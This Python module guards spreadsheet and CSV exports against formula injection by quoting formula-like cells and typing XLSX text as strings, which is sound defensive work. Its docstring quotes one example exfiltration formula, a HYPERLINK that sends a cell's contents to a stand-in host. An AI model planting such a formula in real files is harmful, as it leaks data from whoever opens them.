"""Spreadsheet cells that can never become formulas (CSV / formula injection).

Cached bitables and contract exports carry text that other people typed. A cell such as
`=HYPERLINK("http://x/?"&B3, "open")` written as is becomes a live formula when the file is
opened in Excel or LibreOffice (and openpyxl itself stores any str starting with "=" as a
formula). Every spreadsheet or CSV the product writes goes through this module:

* CSV: a text cell starting with one of `= + - @`, tab or CR gets a leading single quote
  (the OWASP CSV-injection rule); spreadsheet programs show the text, not a result.
* XLSX: every text cell is written with the explicit string type, so the visible text is
  exactly what was cached and no program evaluates it.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def formula_like(value: Any) -> bool:
    """True for text a spreadsheet program would read as a formula (or a DDE call)."""
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def csv_cell(value: Any) -> Any:
    """`value` as a CSV cell: formula-like text gets a leading `'`, everything else as is."""
    return "'" + value if formula_like(value) else value


def csv_row(values: Iterable[Any]) -> list[Any]:
    return [csv_cell(v) for v in values]


def xlsx_row(sheet: Any, values: Iterable[Any]) -> list[Any]:
    """A row for a write-only openpyxl sheet in which text is always typed as a string.

    openpyxl guesses the type from the value (a str starting with "=" becomes a formula);
    the type is set explicitly after the guess, so the visible text is preserved exactly."""
    from openpyxl.cell import WriteOnlyCell

    row: list[Any] = []
    for value in values:
        if isinstance(value, str):
            cell = WriteOnlyCell(sheet, value=value)
            cell.data_type = "s"
            row.append(cell)
        else:
            row.append(value)
    return row
